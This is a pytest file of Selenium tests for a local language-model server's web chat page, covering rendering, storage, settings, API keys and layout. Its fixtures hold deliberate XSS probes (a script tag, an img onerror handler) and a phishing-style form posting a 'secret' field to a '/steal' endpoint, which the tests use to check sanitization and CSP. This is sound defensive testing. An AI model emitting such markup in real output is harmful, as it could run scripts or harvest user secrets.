"""The web chat at GET /, driven in headless Chromium against the real server.

One test per feature of the page: Markdown (sanitized, highlighted, math),
conversations kept in the browser, branches from regenerate and edit,
settings in the request body, the API-key dialog, the prompt-progress bar,
per-reply stats and the context meter, keyboard use and the phone layout.
Replies come from SmolLM2 with a few tokens; where a test needs a reply of a
known shape (Markdown, progress events) the page's fetch is replaced by a
scripted SSE stream (FAKE_STREAM below), which goes through the same code
path as the server's. Screenshots go to tests/artifacts/ (and to docs/ with
GENLOOP_WEBUI_DOCS=1).

Needs Debian's chromium, chromium-driver and python3-selenium; skips when
they or the model are missing, except under CI=true where that fails.
GENLOOP_WEBUI_URL=http://host:port points the tests at a running server.
"""
import json
import os
import re
import shutil
import sys
import tempfile
import time

import pytest

from conftest import SOURCE_DIR, skip_or_fail
from server_util import Server, chat_model, request, tiny_model

ARTIFACTS = SOURCE_DIR / "tests" / "artifacts"
DOCS = SOURCE_DIR / "docs"

# A reply with every kind of block the renderer handles, and markup that must
# never run.
MARKDOWN_REPLY = r"""## Fibonacci in Python

Here is an **iterative** version, which runs in *O(n)* time:

```python
def fib(n: int) -> int:
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b  # shift the pair
    return a
```

| n | fib(n) | digits |
|---|-------:|:------:|
| 10 | 55 | 2 |
| 50 | 12586269025 | 11 |

Binet's formula gives it directly, $F_n = \frac{\varphi^n - \psi^n}{\sqrt 5}$ with $\varphi = \frac{1+\sqrt5}{2}$:

$$
\varphi^n = F_n \varphi + F_{n-1}
$$

See [the OEIS entry](https://oeis.org/A000045); prices like $5 and $10 stay text.
<script>window.pwned = 1</script><img src="x" onerror="window.pwned = 2">
"""

# Replaces window.fetch for /v1/chat/completions with a scripted SSE stream:
# the reply in small pieces, optional prompt_progress events first, then a
# usage chunk. Requests are recorded in window.__requests either way.
FAKE_STREAM = r"""
const [reply, progress, usage, delayMs] = arguments;
window.__requests = [];
window.__realFetch = window.__realFetch || window.fetch;
window.fetch = async (url, opts) => {
  if (!String(url).includes('/v1/chat/completions')) return window.__realFetch(url, opts);
  window.__requests.push(JSON.parse(opts.body));
  const enc = new TextEncoder();
  const sse = (obj) => enc.encode('data: ' + JSON.stringify(obj) + '\n\n');
  const head = { id: 'fake', object: 'chat.completion.chunk', created: 0, model: 'fake' };
  const stream = new ReadableStream({ async start(c) {
    const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
    for (const p of progress) { c.enqueue(sse({ ...head, choices: [], prompt_progress: p })); await sleep(delayMs * 10); }
    for (let i = 0; i < reply.length; i += 6) {
      c.enqueue(sse({ ...head, choices: [{ index: 0, delta: { content: reply.slice(i, i + 6) }, finish_reason: null }] }));
      await sleep(delayMs);
    }
    c.enqueue(sse({ ...head, choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] }));
    c.enqueue(sse({ ...head, choices: [], usage }));
    c.enqueue(enc.encode('data: [DONE]\n\n'));
    c.close();
  } });
  return new Response(stream, { status: 200, headers: { 'Content-Type': 'text/event-stream' } });
};
"""

# Passes requests through, recording their bodies.
SPY_FETCH = r"""
window.__requests = [];
window.__realFetch = window.__realFetch || window.fetch;
window.fetch = (url, opts) => {
  if (String(url).includes('/v1/chat/completions')) window.__requests.push(JSON.parse(opts.body));
  return window.__realFetch(url, opts);
};
"""

FAST = {"max_tokens": 12, "temperature": 0}   # SmolLM2 replies of a few tokens


def import_selenium():
    """Debian's python3-selenium lives in the system dist-packages, which a
    virtualenv made from another Python (e.g. pyenv) does not see."""
    try:
        import selenium  # noqa: F401
    except ImportError:
        sys.path.append("/usr/lib/python3/dist-packages")
        try:
            import selenium  # noqa: F401
        except ImportError:
            skip_or_fail("selenium is not installed (apt-get install python3-selenium)")
    from selenium import webdriver
    return webdriver


@pytest.fixture(scope="module")
def server_url():
    url = os.environ.get("GENLOOP_WEBUI_URL")
    if url:
        yield url.rstrip("/")
        return
    with Server(chat_model()) as srv:
        yield srv.url


@pytest.fixture(scope="module")
def browser():
    webdriver = import_selenium()
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    driver_exe = shutil.which("chromedriver")
    if not chromium or not driver_exe:
        skip_or_fail("chromium / chromedriver are not installed (apt-get install chromium chromium-driver)")
    from selenium.webdriver.chrome.service import Service

    profile = tempfile.mkdtemp(prefix="genloop-chromium-")
    opts = webdriver.ChromeOptions()
    opts.binary_location = chromium
    for flag in ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync", "--no-first-run",
                 "--disable-dev-shm-usage", f"--user-data-dir={profile}", "--window-size=1280,900",
                 "--force-device-scale-factor=1"]:
        opts.add_argument(flag)
    downloads = os.path.join(profile, "downloads")
    opts.add_experimental_option("prefs", {"download.default_directory": downloads,
                                           "download.prompt_for_download": False})
    driver = webdriver.Chrome(service=Service(driver_exe), options=opts)
    driver.downloads = downloads
    driver.set_page_load_timeout(60)
    driver.set_script_timeout(30)
    try:
        yield driver
    finally:
        driver.quit()
        shutil.rmtree(profile, ignore_errors=True)


def wait_for(predicate, timeout, what):
    deadline = time.time() + timeout
    while time.time() < deadline:
        value = predicate()
        if value:
            return value
        time.sleep(0.05)
    pytest.fail(f"timed out after {timeout} s waiting for {what}")


def open_page(d, url, settings=None, size=(1280, 900)):
    """The page with empty browser storage (settings preset when given)."""
    d.set_window_size(*size)
    d.get(url + "/health")
    d.execute_async_script("""
        const done = arguments[arguments.length - 1];
        localStorage.clear(); sessionStorage.clear();
        if (arguments[0]) localStorage.setItem('genloop.settings', JSON.stringify(arguments[0]));
        const r = indexedDB.deleteDatabase('genloop-chat');
        r.onsuccess = r.onerror = r.onblocked = () => done();""", settings)
    reload(d, url)


def reload(d, url):
    d.get(url + "/")
    wait_for(lambda: d.execute_script("return document.body.dataset.ready") == "1", 30, "the page to start")


def css(d, selector):
    from selenium.webdriver.common.by import By
    return d.find_elements(By.CSS_SELECTOR, selector)


def send(d, text):
    from selenium.webdriver.common.keys import Keys
    box = css(d, "#input")[0]
    box.send_keys(text)
    box.send_keys(Keys.ENTER)


def wait_replies(d, n, timeout=120):
    """Until n replies on screen have finished (they show stats)."""
    wait_for(lambda: len(css(d, ".msg.assistant .stats")) >= n and not css(d, ".msg.streaming"),
             timeout, f"{n} finished replies")


def screenshot(d, name, docs=False):
    """To tests/artifacts/; those for the README also to docs/ when
    GENLOOP_WEBUI_DOCS=1."""
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    d.save_screenshot(str(ARTIFACTS / name))
    if docs and os.environ.get("GENLOOP_WEBUI_DOCS") == "1":
        d.save_screenshot(str(DOCS / name))


def test_libraries_served_and_revalidated(server_url):
    """The page's libraries come from the binary, with ETags for reloads."""
    for path in ["/", "/app.js", "/markdown.js", "/lib/marked.js", "/lib/purify.js", "/lib/highlight.js",
                 "/lib/katex.js", "/lib/katex.css", "/lib/fonts/KaTeX_Main-Regular.woff2"]:
        status, headers, body = request(server_url + path)
        assert status == 200 and len(body) > 100, path
        etag = headers["ETag"]
        status, _, body = request(server_url + path, headers={"If-None-Match": etag})
        assert status == 304 and body == b"", path
    assert request(server_url + "/lib/fonts/KaTeX_Main-Regular.woff2")[1]["Content-Type"] == "font/woff2"
    assert request(server_url + "/lib/missing.js")[0] == 404
    assert request(server_url + "/lib/katex.js", b"{}")[0] == 405


def test_markdown_rendered_and_sanitized(server_url, browser):
    d = browser
    open_page(d, server_url)
    d.execute_script(FAKE_STREAM, MARKDOWN_REPLY, [], {"prompt_tokens": 40, "completion_tokens": 140}, 3)
    # The first block is tagged: rendering is incremental when the tag survives.
    d.execute_script("""new MutationObserver(() => {
        const first = document.querySelector('.msg.assistant .md');
        if (first && !first.dataset.tag) first.dataset.tag = 'first';
      }).observe(document.getElementById('chat'), { childList: true, subtree: true });""")
    send(d, "Show code, a table and math. A lone ``` and <b>tags</b> stay text.")
    wait_for(lambda: css(d, ".msg.assistant .cursor"), 10, "the streaming cursor")
    assert css(d, ".msg.assistant .bubble[aria-busy=true]"), "the streaming reply should be aria-busy"
    wait_replies(d, 1, 30)
    bubble = css(d, ".msg.assistant .bubble")[0]
    for selector in ["h2", "strong", "em", "table th", "td[align=right]", ".code-block .copy-code",
                     "pre code .hljs-keyword", ".katex", ".katex-display", "a[target=_blank][rel~=noopener]"]:
        assert bubble.find_elements("css selector", selector), f"no {selector} in the rendered reply"
    assert "$5 and $10 stay text" in bubble.text
    assert d.execute_script("return window.pwned") is None, "markup from a reply ran"
    assert not bubble.find_elements("css selector", "script, [onerror]")
    assert css(d, ".msg.assistant .md[data-tag=first]"), "the first block was rebuilt while streaming"
    assert not css(d, ".cursor"), "the cursor should go when the reply ends"
    user = css(d, ".msg.user .bubble")[0]
    assert "A lone ``` and <b>tags</b> stay text." in user.text
    assert not user.find_elements("css selector", "*"), "user text must stay plain text"

    # Copy buttons put the code, or the whole message's Markdown, on the clipboard.
    d.execute_cdp_cmd("Browser.grantPermissions", {"origin": server_url,
                      "permissions": ["clipboardReadWrite", "clipboardSanitizedWrite"]})
    copy = bubble.find_element("css selector", ".copy-code")
    copy.click()
    wait_for(lambda: copy.text == "Copied", 5, "the code to be copied")
    clip = d.execute_async_script("navigator.clipboard.readText().then(arguments[0], (e) => arguments[0]('error ' + e))")
    assert clip.startswith("def fib(n: int) -> int:") and clip.rstrip().endswith("return a"), clip
    css(d, ".msg.assistant [aria-label='Copy message']")[0].click()
    clip = d.execute_async_script("navigator.clipboard.readText().then(arguments[0], (e) => arguments[0]('error ' + e))")
    assert clip == MARKDOWN_REPLY, clip


# Model output that tries to put a form on the page (a phishing pattern: the
# button posts what is typed to another host) and other elements that load
# or move things; a GFM task list, whose checkboxes become characters.
FORM_REPLY = """Please confirm your key:
<form action="http://127.0.0.1:9/steal" method="post"><input name="secret" value="x">
<select name="s"><option>a</option></select><textarea name="t">y</textarea>
<button type="submit" formaction="http://127.0.0.1:9/">Send</button></form>
<iframe src="http://127.0.0.1:9/"></iframe><base href="http://127.0.0.1:9/"><dialog open>d</dialog>
<p style="position:fixed;top:0">overlay</p>

- [x] done
- [ ] todo
"""


def test_reply_can_hold_no_form(server_url, browser):
    """Rendered replies keep no form, control, frame or base element, and
    the page's CSP forbids form posts, <base> and framing."""
    d = browser
    open_page(d, server_url)
    d.execute_script(FAKE_STREAM, FORM_REPLY, [], {"prompt_tokens": 10, "completion_tokens": 60}, 2)
    send(d, "Show me a form")
    wait_replies(d, 1, 30)
    reply = css(d, ".msg.assistant .bubble")[0]
    bad = "form, input, button, select, option, textarea, iframe, base, dialog, [style], [formaction]"
    found = [el.tag_name for md in reply.find_elements("css selector", ".md") for el in md.find_elements("css selector", bad)]
    assert not found, found
    assert "\u2611 done" in reply.text and "\u2610 todo" in reply.text
    assert d.execute_script("return document.baseURI") == server_url + "/"
    assert d.execute_script("return document.forms.length") == 2  # the page's own: composer, key dialog
    _, headers, _ = request(server_url + "/")
    csp = [p.strip() for p in headers["Content-Security-Policy"].split(";")]
    for rule in ("default-src 'self'", "form-action 'none'", "base-uri 'none'", "frame-ancestors 'none'"):
        assert rule in csp, csp


def test_max_tokens_clamped_to_context(browser):
    """stories260K holds 128 tokens: a saved max_tokens of 1024 (the old
    default) is not sent, the field offers at most the context, and the
    reply comes; a base model is labelled as one."""
    d = browser
    with Server(tiny_model(), "--chat-template", "chatml") as srv:
        open_page(d, srv.url, {"max_tokens": 1024})
        wait_for(lambda: css(d, "#max_tokens")[0].get_attribute("placeholder") == "up to 128", 15,
                 "the context from /v1/models")
        assert css(d, "#max_tokens")[0].get_attribute("value") == ""
        assert css(d, "#max_tokens")[0].get_attribute("max") == "128"
        assert "base model" in css(d, "#model")[0].text
        d.execute_script(SPY_FETCH)
        send(d, "Once upon a time")
        wait_replies(d, 1, 60)
        assert not css(d, ".error")
        sent = d.execute_script("return window.__requests")
        assert sent and "max_tokens" not in sent[0], sent
        # a value inside the context is sent as it is
        open_page(d, srv.url, {"max_tokens": 5})
        d.execute_script(SPY_FETCH)
        send(d, "Once more")
        wait_replies(d, 1, 60)
        assert d.execute_script("return window.__requests")[-1]["max_tokens"] == 5


def test_conversations_kept_and_listed(server_url, browser):
    d = browser
    open_page(d, server_url, FAST)
    send(d, "Name a colour.")
    wait_replies(d, 1)
    send(d, "Name a fruit.")
    wait_replies(d, 2)
    before = [m.text for m in css(d, ".msg .bubble")]
    reload(d, server_url)
    assert [m.text for m in css(d, ".msg .bubble")] == before, "reload lost the conversation"
    assert css(d, ".conv.active .conv-title")[0].text == "Name a colour."

    # A second conversation goes to the top of the list; search finds each.
    css(d, "#new-chat")[0].click()
    assert not css(d, ".msg")
    send(d, "Say yes.")
    wait_replies(d, 1)
    assert [t.text for t in css(d, ".conv-title")] == ["Say yes.", "Name a colour."]
    css(d, "#search")[0].send_keys("fruit")
    wait_for(lambda: [t.text for t in css(d, ".conv-title")] == ["Name a colour."], 5, "search by content")
    css(d, "#search")[0].clear()
    css(d, "#search")[0].send_keys(" ")

    # Rename, kept over a reload; then delete.
    from selenium.webdriver.common.keys import Keys
    item = [li for li in css(d, ".conv") if "Say yes." in li.text][0]
    item.find_element("css selector", "[aria-label='Rename conversation']").click()
    box = css(d, ".conv-rename")[0]
    box.send_keys(Keys.CONTROL, "a")
    box.send_keys("Yes test", Keys.ENTER)
    reload(d, server_url)
    assert "Yes test" in [t.text for t in css(d, ".conv-title")]
    item = [li for li in css(d, ".conv") if "Yes test" in li.text][0]
    item.find_element("css selector", "[aria-label='Delete conversation']").click()
    d.switch_to.alert.accept()
    wait_for(lambda: [t.text for t in css(d, ".conv-title")] == ["Name a colour."], 5, "the deletion")
    reload(d, server_url)
    assert [t.text for t in css(d, ".conv-title")] == ["Name a colour."]

    # Export and import round trip: the exported file, imported into an
    # empty browser, brings the conversation back.
    css(d, "#export")[0].click()
    path = wait_for(lambda: [os.path.join(d.downloads, f) for f in os.listdir(d.downloads)
                             if f.endswith(".json")] if os.path.isdir(d.downloads) else None,
                    10, "the exported file")[0]
    assert json.load(open(path))["conversations"][0]["title"] == "Name a colour."
    open_page(d, server_url)
    assert not css(d, ".conv-title")
    css(d, "#import")[0].send_keys(str(path))
    wait_for(lambda: [m.text for m in css(d, ".msg .bubble")] == before, 5, "the imported conversation")
    css(d, "#import")[0].send_keys(str(SOURCE_DIR / "README.md"))
    wait_for(lambda: css(d, ".error"), 5, "an error for a file that is not JSON")
    assert "not JSON" in css(d, ".error")[0].text


def test_regenerate_and_edit_make_branches(server_url, browser):
    d = browser
    open_page(d, server_url, {"max_tokens": 8, "temperature": 1.5, "seed": ""})
    send(d, "Tell me a word.")
    wait_replies(d, 1)
    first = css(d, ".msg.assistant .bubble")[0].text
    css(d, ".msg.assistant [aria-label='Regenerate reply']")[0].click()
    wait_for(lambda: css(d, ".msg.assistant .branch-pos") and not css(d, ".msg.streaming"), 120,
             "the regenerated reply")
    assert css(d, ".msg.assistant .branch-pos")[0].text == "2/2"
    assert len(css(d, ".msg.assistant")) == 1
    css(d, ".msg.assistant [aria-label='Previous version']")[0].click()
    assert css(d, ".msg.assistant .branch-pos")[0].text == "1/2"
    assert css(d, ".msg.assistant .bubble")[0].text == first

    # Edit-and-resend branches the user message; the old branch stays.
    css(d, ".msg.user [aria-label='Edit and resend']")[0].click()
    box = css(d, ".edit-box")[0]
    box.clear()
    box.send_keys("Tell me a number.")
    css(d, ".msg.user [aria-label='Send edited message']")[0].click()
    wait_for(lambda: len(css(d, ".msg.assistant .stats")) == 1 and not css(d, ".msg.streaming"), 120, "the reply to the edit")
    assert css(d, ".msg.user .branch-pos")[0].text == "2/2"
    assert css(d, ".msg.user .bubble")[0].text == "Tell me a number."
    reload(d, server_url)
    css(d, ".msg.user [aria-label='Previous version']")[0].click()
    assert css(d, ".msg.user .bubble")[0].text == "Tell me a word."
    assert css(d, ".msg.assistant .branch-pos")[0].text == "1/2"


LLAMA_SAMPLERS = {"typical_p": "0.9", "top_n_sigma": "2", "xtc_probability": "0.2", "xtc_threshold": "0.15",
                  "dynatemp_range": "0.2", "dynatemp_exponent": "1.5", "mirostat_tau": "4", "mirostat_eta": "0.2",
                  "dry_multiplier": "0.8", "dry_base": "1.5", "dry_allowed_length": "3", "dry_penalty_last_n": "64"}


def test_settings_reach_the_request(server_url, browser):
    from selenium.webdriver.support.ui import Select
    d = browser
    open_page(d, server_url)
    css(d, "#settings-toggle")[0].click()
    values = {"temperature": "0.3", "top_k": "17", "top_p": "0.8", "min_p": "0.1",
              "repetition_penalty": "1.1", "presence_penalty": "0.5", "frequency_penalty": "-0.5",
              "max_tokens": "9", "seed": "42"}
    for key, value in values.items():
        box = css(d, "#" + key)[0]
        box.clear()
        box.send_keys(value)
    css(d, "#system")[0].send_keys("You are terse.")
    css(d, "#stop")[0].send_keys("\n".join(["END", "###"]))
    # llama.cpp's samplers: empty (the default) sends nothing
    sent = d.execute_script("return requestSettings()")
    assert not set(sent) & set(LLAMA_SAMPLERS) and "mirostat" not in sent, sent
    css(d, "#more-samplers summary")[0].click()
    for key, value in LLAMA_SAMPLERS.items():
        box = css(d, "#" + key)[0]
        box.clear()
        box.send_keys(value)
    Select(css(d, "#mirostat")[0]).select_by_value("2")
    css(d, "#dry_sequence_breakers")[0].send_keys('["\\n", "Lily"]')
    reload(d, server_url)   # settings are kept in the browser
    assert css(d, "#top_k")[0].get_attribute("value") == "17"
    assert css(d, "#dry_multiplier")[0].get_attribute("value") == "0.8"
    d.execute_script(SPY_FETCH)
    send(d, "Hello")
    wait_replies(d, 1)
    assert not css(d, ".error"), css(d, ".error")[0].text
    body = d.execute_script("return window.__requests.at(-1)")
    for key, value in {**values, **LLAMA_SAMPLERS}.items():
        assert body[key] == float(value), (key, body)
    assert body["mirostat"] == 2 and body["dry_sequence_breakers"] == ["\n", "Lily"], body
    css(d, "#settings-toggle")[0].click()  # mirostat off again for the rest
    css(d, "#more-samplers summary")[0].click()
    Select(css(d, "#mirostat")[0]).select_by_value("")
    css(d, "#settings-toggle")[0].click()
    assert body["stop"] == ["END", "###"]
    assert body["messages"][0] == {"role": "system", "content": "You are terse."}
    assert body["messages"][1] == {"role": "user", "content": "Hello"}
    assert body["stream"] is True and "response_format" not in body

    # JSON output asks for a JSON object, and the reply is one (constrained;
    # max_tokens 9 may cut it, so only its start is checked).
    css(d, "#settings-toggle")[0].click()
    css(d, "#json_output")[0].click()
    send(d, "Give me JSON")
    wait_for(lambda: css(d, ".error") or len(css(d, ".msg.assistant .stats")) == 2, 120, "the JSON reply")
    assert d.execute_script("return window.__requests.at(-1).response_format") == {"type": "json_object"}
    assert not css(d, ".error"), css(d, ".error")[0].text
    reply = css(d, ".msg.assistant .bubble")[-1].text
    assert reply.startswith("{"), reply

    # Reset brings back the defaults.
    Select(css(d, "#theme")[0]).select_by_value("dark")
    css(d, "#reset-settings")[0].click()
    assert css(d, "#top_k")[0].get_attribute("value") == "40"
    assert css(d, "#system")[0].get_attribute("value") == ""
    sent = d.execute_script("return requestSettings()")
    assert not set(sent) & set(LLAMA_SAMPLERS) and "mirostat" not in sent and "dry_sequence_breakers" not in sent
    assert not css(d, "#json_output")[0].is_selected()
    assert d.execute_script("return document.documentElement.dataset.theme") is None


def test_api_key_dialog(browser):
    d = browser
    with Server(tiny_model(), "--api-key", "sesame-123", "--chat-template", "chatml") as srv:
        open_page(d, srv.url, FAST)
        wait_for(lambda: css(d, "#key-dialog[open]"), 15, "the API key dialog")
        assert css(d, "#model")[0].text == "API key needed"
        css(d, "#key-input")[0].send_keys("wrong")
        css(d, "#key-save")[0].click()
        wait_for(lambda: "not accepted" in css(d, "#key-reason")[0].text and css(d, "#key-dialog[open]"), 15,
                 "the dialog to come back for a wrong key")
        css(d, "#key-input")[0].send_keys("sesame-123")
        css(d, "#key-save")[0].click()
        wait_for(lambda: css(d, "#model")[0].text.startswith("stories260K.gguf"), 15, "the model name")
        assert d.execute_script("return sessionStorage.getItem('genloop.apiKey')") == "sesame-123"
        assert d.execute_script("return localStorage.getItem('genloop.apiKey')") is None
        send(d, "Once upon a time")
        wait_replies(d, 1, 30)
        assert not css(d, ".error")

        # "Remember" keeps it in localStorage, so a new session has it.
        css(d, "#settings-toggle")[0].click()
        css(d, "#change-key")[0].click()
        css(d, "#key-input")[0].send_keys("sesame-123")
        css(d, "#key-remember")[0].click()
        css(d, "#key-save")[0].click()
        wait_for(lambda: d.execute_script("return localStorage.getItem('genloop.apiKey')") == "sesame-123", 5,
                 "the remembered key")
        assert d.execute_script("return sessionStorage.getItem('genloop.apiKey')") is None


def test_prompt_progress_shown(server_url, browser):
    """The bar from prompt_progress events, with a scripted stream."""
    d = browser
    open_page(d, server_url)
    progress = [{"total": 4000, "cache": 1000, "processed": p, "time_ms": p / 10} for p in (1000, 2000, 3000, 4000)]
    d.execute_script(FAKE_STREAM, "Done reading.", progress,
                     {"prompt_tokens": 4000, "completion_tokens": 3, "prompt_tokens_details": {"cached_tokens": 1000}}, 40)
    send(d, "A long prompt")
    bar = wait_for(lambda: css(d, ".msg.assistant .progress progress"), 10, "the progress bar")[0]
    wait_for(lambda: float(bar.get_attribute("value") or 0) >= 2000, 10, "the bar to move")
    text = css(d, ".progress-text")[0].text
    screenshot(d, "webui-progress.png", docs=True)
    assert "/ 4,000 tokens" in text and "1,000 cached" in text, text
    wait_replies(d, 1, 10)
    assert not css(d, ".progress"), "the bar should go once the reply streams"
    assert "1000 cached" in css(d, ".msg.assistant .stats")[0].text
    assert d.execute_script("return window.__requests[0].return_progress") is True


def test_prompt_progress_from_server(browser):
    """A long prompt read in small steps shows the server's progress events.
    Needs return_progress in the server (the `clients` branch, issue 19)."""
    d = browser
    with Server(chat_model(), "--max-batch-tokens", "48") as srv:
        status, _, body = request(srv.url + "/v1/chat/completions",
                                  {"messages": [{"role": "user", "content": "hi"}], "max_tokens": 1,
                                   "stream": True, "return_progress": True})
        if status == 400 and b"return_progress" in body:
            pytest.skip("the server rejects return_progress (issue 19's `clients` branch not merged yet)")
        open_page(d, srv.url, FAST)
        d.execute_script("""window.__seen = [];
            new MutationObserver(() => {
              const m = document.querySelector('.msg.assistant[data-progress]');
              if (m) window.__seen.push(m.dataset.progress);
            }).observe(document.getElementById('chat'), { attributes: true, subtree: true });""")
        prompt = " ".join(f"item {i} is {i * 7 % 13}." for i in range(40))
        d.execute_script("document.getElementById('input').value = arguments[0]", prompt)
        css(d, "#send")[0].click()
        wait_replies(d, 1, 180)
        seen = d.execute_script("return window.__seen")
        totals = {s.split("/")[1] for s in seen}
        assert len(seen) >= 3 and len(totals) == 1, seen
        assert seen[-1].split("/")[0] == seen[-1].split("/")[1], seen


def test_stats_and_context_meter(server_url, browser):
    d = browser
    open_page(d, server_url, FAST)
    send(d, "Say hi.")
    wait_replies(d, 1)
    stats = css(d, ".msg.assistant .stats")[0].text
    assert re.search(r"TTFT \d", stats) and "tok/s" in stats and re.search(r"\d+ tokens?", stats), stats
    assert re.search(r"\b(stop|length)\b", stats), stats
    prompt = int(re.search(r"(\d+) prompt", stats).group(1))
    tokens = int(re.search(r"(\d+) tokens?", stats).group(1))
    _, _, models = request(server_url + "/v1/models")
    n_ctx = json.loads(models)["data"][0]["context_length"]
    meter = css(d, "#context-text")[0].text
    assert meter == f"{prompt + tokens:,} / {n_ctx:,}", meter


def test_keyboard_errors_and_phone(server_url, browser):
    from selenium.webdriver.common.keys import Keys
    d = browser
    open_page(d, server_url, {"max_tokens": 2000, "temperature": 0.8})
    box = css(d, "#input")[0]
    box.send_keys("Write a very long story about a dragon.")
    box.send_keys(Keys.SHIFT, Keys.ENTER)           # a newline, not a send
    assert not css(d, ".msg.user")
    box.send_keys("With many chapters.", Keys.ENTER)
    assert "\n" in wait_for(lambda: css(d, ".msg.user .bubble"), 5, "the message")[0].text
    wait_for(lambda: len(css(d, ".msg.assistant .bubble")[0].text) > 40, 120, "the reply to grow")
    assert css(d, "#chat[aria-live=polite]")
    screenshot(d, "webui-streaming.png")
    box.send_keys(Keys.ESCAPE)                        # Esc stops
    wait_replies(d, 1, 15)
    assert "stopped" in css(d, ".msg.assistant .stats")[0].text

    # Visible focus for keyboard users.
    box.send_keys(Keys.TAB)
    outline = d.execute_script("return getComputedStyle(document.activeElement).outlineStyle")
    assert outline == "solid", outline

    # A server error is shown; the text comes back into the box, resized.
    css(d, "#new-chat")[0].click()
    d.execute_script("document.getElementById('input').value = arguments[0]", "toolong\n" * 30000)
    height = css(d, "#input")[0].size["height"]
    css(d, "#send")[0].click()
    error = wait_for(lambda: css(d, ".error"), 60, "an error message")[0]
    assert error.text.strip() and "Server error" not in error.text, error.text
    assert css(d, "#input")[0].get_attribute("value").startswith("toolong")
    assert css(d, "#input")[0].size["height"] > max(height, 60), "the box was not resized for the text put back"

    # Phone width: no sideways scrolling, the sidebar is a drawer.
    d.execute_script("document.getElementById('input').value = ''")
    d.set_window_size(390, 844)
    assert d.execute_script("return document.documentElement.scrollWidth") <= 390
    assert not css(d, "#sidebar")[0].is_displayed() or css(d, "#sidebar")[0].location["x"] < 0
    css(d, "#menu")[0].click()
    wait_for(lambda: css(d, "#new-chat")[0].is_displayed() and css(d, "#sidebar")[0].location["x"] >= 0, 5,
             "the drawer to open")
    css(d, "#search")[0].send_keys(Keys.ESCAPE)
    wait_for(lambda: not css(d, "body.drawer-open"), 5, "Esc to close the drawer")


def test_screenshots(server_url, browser):
    """Light and dark, desktop and phone, of a reply with code, a table and math."""
    d = browser
    now = int(time.time() * 1000)
    nodes = {"root": {"id": "root", "role": "root", "children": ["u1"], "active": 0},
             "u1": {"id": "u1", "role": "user", "parent": "root", "children": ["a1"], "active": 0,
                    "content": "How do I compute Fibonacci numbers quickly? A table and the closed form, please."},
             "a1": {"id": "a1", "role": "assistant", "parent": "u1", "children": [], "active": 0,
                    "content": MARKDOWN_REPLY.split("See [the OEIS")[0].rstrip() + "\n",
                    "stats": {"ttft": 142, "tps": 38.6, "tokens": 151, "finish": "stop", "prompt": 46, "cached": 0}}}
    convs = [{"id": "demo", "title": "Fibonacci numbers", "titleSet": True, "created": now, "updated": now,
              "nodes": nodes},
             {"id": "old", "title": "Packing list for a hike", "titleSet": True, "created": now - 9e7,
              "updated": now - 9e7, "nodes": {"root": {"id": "root", "role": "root", "children": [], "active": 0}}}]
    path = ARTIFACTS / "webui-demo.json"
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({"format": "genloop-chat", "version": 1, "conversations": convs}))
    for theme in ["light", "dark"]:
        for name, (width, height) in [("desktop", (1280, 900)), ("mobile", (390, 844))]:
            # The viewport itself at that size (a window's includes its frame).
            d.execute_cdp_cmd("Emulation.setDeviceMetricsOverride",
                              {"width": width, "height": height, "deviceScaleFactor": 1, "mobile": name == "mobile"})
            try:
                open_page(d, server_url, {"theme": theme})
                css(d, "#import")[0].send_keys(str(path))
                wait_for(lambda: css(d, ".katex"), 5, "the imported reply")
                d.execute_script("document.activeElement.blur()")
                if name == "mobile":
                    d.execute_script("document.getElementById('chat').scrollTop = 0")
                time.sleep(0.3)   # fonts
                assert d.execute_script("return innerWidth") == width
                screenshot(d, f"webui-{theme}-{name}.png", docs=True)
            finally:
                d.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})


# A reasoning model's reply: thinking deltas (reasoning_content), then the answer.
THINKING_STREAM = r"""
const [thinking, answer, delayMs] = arguments;
window.__requests = [];
window.__realFetch = window.__realFetch || window.fetch;
window.fetch = async (url, opts) => {
  if (!String(url).includes('/v1/chat/completions')) return window.__realFetch(url, opts);
  window.__requests.push(JSON.parse(opts.body));
  const enc = new TextEncoder();
  const sse = (obj) => enc.encode('data: ' + JSON.stringify(obj) + '\n\n');
  const head = { id: 'fake', object: 'chat.completion.chunk', created: 0, model: 'fake' };
  const stream = new ReadableStream({ async start(c) {
    const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
    const part = (delta) => c.enqueue(sse({ ...head, choices: [{ index: 0, delta, finish_reason: null }] }));
    for (const w of thinking.split(' ')) { part({ reasoning_content: w + ' ' }); await sleep(delayMs); }
    for (const w of answer.split(' ')) { part({ content: w + ' ' }); await sleep(delayMs); }
    c.enqueue(sse({ ...head, choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] }));
    c.enqueue(sse({ ...head, choices: [], usage: { prompt_tokens: 5, completion_tokens: 20,
      completion_tokens_details: { reasoning_tokens: 12 } } }));
    c.enqueue(enc.encode('data: [DONE]\n\n'));
    c.close();
  } });
  return new Response(stream, { status: 200, headers: { 'Content-Type': 'text/event-stream' } });
};
"""


def test_thinking_block_streams_collapses_and_stays(server_url, browser):
    d = browser
    open_page(d, server_url, settings={"thinking_budget_tokens": "64"})
    thinking = "the user greets me so I greet back " * 3
    d.execute_script(THINKING_STREAM, thinking.strip(), "Hello there!", 60)
    send(d, "Hi")
    block = wait_for(lambda: css(d, ".msg.assistant .thinking"), 10, "the thinking block")[0]
    assert block.get_attribute("open") is not None, "open while the model thinks"
    wait_for(lambda: "Hello" in css(d, ".msg.assistant .bubble")[0].text, 20, "the answer")
    assert block.get_attribute("open") is None, "collapsed once the answer starts"
    wait_replies(d, 1)
    assert css(d, ".msg.assistant .thinking-text")[0].get_attribute("textContent").strip() == thinking.strip()
    assert d.execute_script("return window.__requests[0].thinking_budget_tokens") == 64
    reload(d, server_url)   # kept in the conversation's history
    assert css(d, ".msg.assistant .thinking"), "the thinking is kept"
    d.execute_script(THINKING_STREAM, "again", "Fine.", 1)
    send(d, "And now?")
    wait_replies(d, 2)
    sent = d.execute_script("return window.__requests.at(-1).messages")
    assert sent[1]["role"] == "assistant" and sent[1]["content"].strip() == "Hello there!"
    assert set(sent[1]) == {"role", "content"}, "the thinking is not sent back"


def test_model_selector(browser, tmp_path):
    """A server of several models: a select lists them with their state,
